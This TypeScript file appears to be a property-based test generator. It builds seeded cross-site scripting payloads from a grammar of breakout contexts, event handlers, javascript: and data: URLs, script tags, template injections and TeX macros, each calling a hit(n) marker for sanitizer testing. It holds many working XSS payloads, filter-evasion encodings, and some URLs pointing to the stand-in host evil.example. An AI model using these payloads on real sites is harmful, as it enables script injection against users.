/** Texts that try to become code, made from a grammar: each calls `hit` with its own number where it runs. */
import fc from 'fast-check';

export interface Payload {
  number: number;
  text: string;
}

/** Different ones, the same for the same seed. */
export function payloads(seed: number, count: number): Payload[] {
  const made = new Set<string>();
  for (let round = 0; made.size < count; round++) {
    for (const text of fc.sample(anyPayload, { seed: seed + round, numRuns: count })) {
      if (made.size < count) made.add(text);
    }
  }
  return [...made].map((text, number) => ({
    number,
    text: text.replaceAll('HIT', `hit(${number})`),
  }));
}

const some = (...values: string[]): fc.Arbitrary<string> => fc.constantFrom(...values);

/** What must end before markup can begin, in a text, an attribute, a comment, CDATA, a script, a style. */
const CONTEXTS = some(
  ...[
    '',
    '',
    '',
    '">',
    "'>",
    '>',
    '" ',
    "' ",
    '`',
    '-->',
    '--!>',
    ']]>',
    '</title>',
    '</script>',
    '</style>',
  ],
  ...[
    '</textarea>',
    '</template>',
    '</svg>',
    '</math>',
    '</noscript>',
    '</xmp>',
    '</SCRIPT >',
    '</script/x>',
  ],
  ...[
    '"}</script>',
    '\u2028</script>',
    '*/',
    '\\"',
    '\\',
    '&quot;>',
    '&#34;>',
    '%22>',
    '\u0022>',
    '\n">',
    '<!--',
  ],
  ...[
    '<![CDATA[',
    '<?xml?>',
    '<!doctype html>',
    '</p></div></main>',
    '</a>',
    '</h1>',
    '</code></pre>',
    '|',
    '``',
  ],
  ...[
    '$',
    '$$',
    '](',
    ')',
    '[[',
    '{{',
    '{%',
    '> [!NOTE]\n> ',
    ':::',
    '\t',
    '\u0000',
    '\ufeff',
    '\u202e',
  ],
);

const EVENTS = some(
  ...[
    'onerror',
    'onload',
    'onfocus',
    'onclick',
    'onmouseover',
    'ontoggle',
    'onbegin',
    'onanimationstart',
  ],
  ...[
    'onpointerenter',
    'onscroll',
    'onbeforetoggle',
    'oncontentvisibilityautostatechange',
    'onfocusin',
  ],
  ...['ONERROR', 'oNfOcUs', 'on\u0065rror', 'onerror\u000c', 'onerror\n'],
);

/** Between a name and its value, between attributes. */
const SPACES = some(' ', '/', '\n', '\t', '\f', '\r\n', '//', ' / ', '\u00a0 ');
const CALLS = some(
  'HIT',
  'HIT//',
  'window.HIT',
  "top['h'+'it']&&HIT",
  '&#104;HIT'.replace('&#104;HIT', 'HIT'),
  '(()=>HIT)()',
  'HIT;void 0',
);
const QUOTES = some('', '"', "'");

const ELEMENTS = some(
  ...[
    '<img src=x ATTR>',
    '<IMG/SRC=x/ATTR>',
    '<svg ATTR>',
    '<svg><image href=x ATTR>',
    '<svg><animate ATTR attributeName=x dur=1s>',
  ],
  ...[
    '<body ATTR>',
    '<input autofocus ATTR>',
    '<details open ATTR>x</details>',
    '<video src=x ATTR>',
    '<audio src=x ATTR>',
  ],
  ...[
    '<select autofocus ATTR>',
    '<textarea autofocus ATTR>',
    '<a href=x tabindex=0 autofocus ATTR>x</a>',
    '<iframe src=x ATTR>',
  ],
  ...[
    '<object data=x ATTR>',
    '<embed src=x ATTR>',
    '<link rel=stylesheet href=x ATTR>',
    '<style ATTR>x{}</style>',
  ],
  ...[
    '<div contenteditable autofocus ATTR>',
    '<math><mtext ATTR>x',
    '<custom-x tabindex=0 autofocus ATTR>',
    '<video><source src=x ATTR>',
  ],
  ...[
    '<math><mtext><table><mglyph><style><img src=x ATTR>',
    '<svg></p><style><g title="</style><img src=x ATTR>">',
  ],
  ...[
    '<noscript><p title="</noscript><img src=x ATTR>">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img src=x ATTR>">',
  ],
  ...[
    '<<img src=x ATTR>',
    '<img src="x` `<img src=x ATTR>"',
    '<x ATTR style="animation-name:x">',
    '<button popovertarget=p autofocus ATTR>',
  ],
);

const attribute = fc
  .tuple(EVENTS, SPACES, QUOTES, CALLS)
  .map(
    ([name, space, quote, call]) =>
      `${name}${space.trim() === '' && quote ? space : ''}=${quote}${call}${quote}`,
  );

const elements = fc
  .tuple(ELEMENTS, attribute)
  .map(([element, attr]) => element.replace('ATTR', () => attr));

const SCHEMES = some(
  ...[
    'javascript:HIT',
    'JaVaScRiPt:HIT',
    'java\tscript:HIT',
    'java\nscript:HIT',
    ' javascript:HIT',
    '\u0001javascript:HIT',
  ],
  ...[
    'javascript&colon;HIT',
    '&#106;avascript:HIT',
    '&#x6a;avascript:HIT',
    'javascript&#58;HIT',
    'javascript&#x0A;:HIT',
  ],
  ...[
    'javascript%3AHIT',
    'javascript\\:HIT',
    'javascript://x%0aHIT',
    'javascript:/*-->*/HIT',
    'vbscript:HIT',
    'jAvAsCrIpT&Tab;:HIT',
  ],
  ...[
    'data:text/html,<script>parent.HIT</script>',
    'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KDApPC9zY3JpcHQ+',
  ],
  ...[
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="HIT"/>',
    'blob:javascript:HIT',
    'view-source:javascript:HIT',
  ],
  ...[
    'livescript:HIT',
    'feed:javascript:HIT',
    'jar:javascript:HIT',
    'mhtml:javascript:HIT',
    '//evil.example/?HIT',
    '\\\\evil.example\\HIT',
  ],
  ...[
    'https://evil.example/HIT" onclick="HIT',
    'javascript:HIT//https://e.org/',
    'x:y" onfocus=HIT autofocus a="',
  ],
);

const CARRIERS = some(
  ...[
    'URL',
    'URL',
    '<a href="URL">x</a>',
    "<a href='URL'>x</a>",
    '<a href=URL>x</a>',
    '<a xlink:href="URL">x</a>',
  ],
  ...[
    '<svg><a xlink:href="URL"><text>x</text></a></svg>',
    '<iframe src="URL"></iframe>',
    '<form action="URL"><button autofocus>x</button></form>',
  ],
  ...[
    '<button formaction="URL">x</button>',
    '<object data="URL"></object>',
    '<embed src="URL">',
    '<base href="URL">',
    '<img src="URL">',
  ],
  ...[
    '<meta http-equiv=refresh content="0;url=URL">',
    '<link rel=import href="URL">',
    '<svg><use href="URL"/></svg>',
    '<script src="URL"></script>',
  ],
  ...[
    '<video poster="URL">',
    '<math href="URL">x</math>',
    '<maction actiontype="statusline" xlink:href="URL">x</maction>',
    '<area href="URL">',
  ],
  ...[
    '[x](URL)',
    '[x](<URL>)',
    '![x](URL)',
    '<URL>',
    '[x]: URL\n\n[x]',
    '[x](x "URL")',
    '[[URL|x]]',
    '[^URL]',
    '\\href{URL}{x}',
    '\\url{URL}',
  ],
  ...[
    '$\\href{URL}{x}$',
    '\\includegraphics{URL}',
    '<svg><animate attributeName=href values="URL"/></svg>',
    '<isindex action="URL">',
    '<a ping="URL" href=x>x</a>',
  ],
);

const urls = fc.tuple(CARRIERS, SCHEMES).map(([carrier, url]) => carrier.replace('URL', () => url));

const SCRIPTS = some(
  ...[
    '<script>HIT</script>',
    '<SCRIPT>HIT</SCRIPT>',
    '<script >HIT</script >',
    '<script/x>HIT</script>',
    '<script\n>HIT</script\n>',
  ],
  ...[
    '<svg><script>HIT</script></svg>',
    '<svg><script href="data:,HIT"/></svg>',
    '<math><script>HIT</script></math>',
    '<script type=module>HIT</script>',
  ],
  ...[
    '<script src="data:,HIT"></script>',
    '<scr<script>ipt>HIT</scr</script>ipt>',
    '<script>/*<!--<script>*/HIT//--></script>',
    '<ſcript>HIT</ſcript>',
  ],
  ...[
    '<iframe srcdoc="<script>parent.HIT</script>"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.HIT&lt;/script&gt;"></iframe>',
  ],
  ...[
    '<template shadowrootmode=open><script>HIT</script></template>',
    '&lt;script&gt;HIT&lt;/script&gt;',
    '&#60;script&#62;HIT&#60;/script&#62;',
  ],
  ...[
    '\\u003cscript\\u003eHIT\\u003c/script\\u003e',
    '%3Cscript%3EHIT%3C/script%3E',
    '＜script＞HIT＜/script＞',
    '<script>HIT',
    '<!--><script>HIT</script>-->',
  ],
  ...[
    '<style>@import "javascript:HIT"</style>',
    '<div style="background:url(javascript:HIT)">',
    '<div style="width:expression(HIT)">',
    '<style>*{behavior:url(x)}</style><script>HIT</script>',
  ],
  ...[
    '<div style="-moz-binding:url(//evil.example/HIT)">',
    '<link rel=stylesheet href="//evil.example/HIT.css">',
    '<style>body{background:url(//evil.example/HIT)}</style>',
  ],
);

const TEMPLATES = some(
  ...[
    '{{HIT}}',
    '{{ "".constructor.constructor("HIT")() }}',
    '{% raw %}<script>HIT</script>{% endraw %}',
    '{% include "x" %}{{HIT|safe}}',
    '<%= HIT %>',
    '#{HIT}',
  ],
  ...[
    '$' + '{HIT}',
    '`$' + '{HIT}`',
    '{{constructor.constructor("HIT")()}}',
    "{{ range.constructor('return HIT')() }}",
    '{% set x = "<script>HIT</script>" %}{{ x|safe }}',
    '{%- if 1 -%}<script>HIT</script>{%- endif -%}',
  ],
  ...[
    '__proto__',
    'constructor',
    '"},"x":"</script><script>HIT</script>',
    '{"__proto__":{"onload":"HIT"}}',
    '</script><!--<script>HIT',
    "');HIT;//",
    '");HIT;//',
    '\\");HIT;//',
    '\u2029HIT\u2028',
    "'-HIT-'",
    '${'.concat('alert`1`}HIT'),
  ],
);

const MATH = some(
  ...[
    '\\href{javascript:HIT}{x}',
    '\\htmlData{onclick=HIT}{x}',
    '\\htmlStyle{background:url(javascript:HIT)}{x}',
    '\\htmlClass{x" onmouseover="HIT}{x}',
  ],
  ...[
    '\\htmlId{x" onmouseover="HIT}{x}',
    '\\text{<img src=x onerror=HIT>}',
    '\\text{</annotation><img src=x onerror=HIT>}',
    '\\unicode{<script>HIT</script>}',
  ],
  ...[
    '\\html@mathml{<img src=x onerror=HIT>}{x}',
    '\\includegraphics[alt={" onerror="HIT}]{x}',
    '\\url{javascript:HIT}',
    '\\def\\x{<script>HIT</script>}\\x',
    '\\tag{<img src=x onerror=HIT>}',
  ],
  ...[
    '\\color{red" onclick="HIT}x',
    '\\textcolor{#fff;x:expression(HIT)}{x}',
    '\\label{"><svg onload=HIT>}',
    '\\ref{"><svg onload=HIT>}',
    '\\operatorname{<b onclick=HIT>}',
    '\\begin{<script>HIT</script>}',
  ],
  ...[
    'x^{<script>HIT</script>}',
    '\\verb|<script>HIT</script>|',
    '\\class{x}{<img src=x onerror=HIT>}',
    '\\cssId{x}{y}<img src=x onerror=HIT>',
    '</math><img src=x onerror=HIT>',
    '\\char"3C script>HIT',
  ],
);

const anyPayload: fc.Arbitrary<string> = fc
  .tuple(
    CONTEXTS,
    fc.oneof(
      { weight: 4, arbitrary: elements },
      { weight: 4, arbitrary: urls },
      { weight: 2, arbitrary: SCRIPTS },
      { weight: 1, arbitrary: TEMPLATES },
      { weight: 1, arbitrary: MATH },
    ),
    some('', '', '', '//', '<!--', '"', '<x y="', '\\', '</p>'),
  )
  .map((parts) => parts.join(''));
